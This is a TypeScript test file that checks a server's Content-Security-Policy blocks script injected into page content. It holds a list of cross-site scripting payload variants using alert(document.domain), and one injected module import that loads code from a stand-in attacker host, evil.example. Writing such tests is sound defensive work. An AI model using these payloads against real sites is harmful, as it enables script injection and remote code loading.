import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { readConfig } from "#server/config.ts";
import { finishPage } from "#first-view/page-bytes.ts";

// As in production, where pages load their scripts after the first paint.
beforeAll(() => void vi.stubEnv("DEV", false));
afterAll(() => void vi.unstubAllEnvs());

const NONCE = "c2VjcmV0IG9mIHRoaXMgcGFnZQ==";
const config = readConfig({});
const hashOf = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

async function finish(body: string, status = 200) {
  const html = `<html><head><script nonce="${NONCE}">own()</script><link rel="modulepreload" href="/assets/own.js" nonce="${NONCE}"/></head><body>${body}<script nonce="${NONCE}" type="module" async="">import * as route0 from "/assets/route.js";
import "/assets/entry.js";
window.own = route0;</script></body></html>`;
  const response = finishPage(html, {
    status,
    headers: new Headers(),
    config,
    nonce: NONCE,
    tool: undefined,
  });
  const policy = response.headers.get("content-security-policy") ?? "";
  return { html: await response.text(), allowed: /script-src ([^;]*)/.exec(policy)?.[1] ?? "" };
}

const EVIL = "alert(document.domain)";

describe("a script injected into the page's content is blocked:", () => {
  test.each([
    `<script>${EVIL}</script>`,
    `<script type="text/javascript">${EVIL}</script>`,
    `<script type="module" async="">${EVIL}</script>`,
    `<script nonce="">${EVIL}</script>`,
    `<script nonce="guess">${EVIL}</script>`,
    `<script data-nonce="${NONCE}x">${EVIL}</script>`,
    `<SCRIPT>${EVIL}</SCRIPT>`,
    `<script\n>${EVIL}</script >`,
    `<p title="<script nonce=">${EVIL}</p>`,
  ])("%s", async (injected) => {
    const { html, allowed } = await finish(injected);
    expect(html).toContain(EVIL);
    const own = [...html.matchAll(/<script>([^]*?)<\/script>/g)].map(([, code = ""]) => code);
    const ours = own.filter((code) => !code.includes(EVIL)).map(hashOf);
    // The injected tag may enclose one of the page's own scripts, which then does not run either.
    for (const source of allowed.split(" ")) expect(["'self'", ...ours]).toContain(source);
    expect(allowed).not.toContain(hashOf(EVIL));
  });

  test("an injected script cannot replace the page's modules", async () => {
    const { html } = await finish(
      `<script type="module" async="">import "https://evil.example/x.js";</script><link rel="modulepreload" href="/evil.js"/>`,
    );
    const [, loader = ""] = /<script>(\(\(\)=>[^]*?)<\/script>/.exec(html) ?? [];
    expect(loader).toContain("/assets/route.js");
    expect(loader).toContain("/assets/own.js");
    expect(loader).not.toContain("evil");
  });
});

test("the page's own scripts are allowed, and the nonces by which the server finds them are not sent", async () => {
  const { html, allowed } = await finish("<p>content</p>");
  expect(allowed).toContain(hashOf("own()"));
  expect(allowed.split(" ")).toHaveLength(3);
  expect(html).not.toContain("nonce");
});

test("an error page runs no scripts", async () => {
  const { html, allowed } = await finish("<h1>Too many requests</h1>", 429);
  expect(allowed).toBe("'self'");
  expect(html).not.toMatch(/<script|modulepreload/);
  expect(html).toContain("<h1>Too many requests</h1>");
});
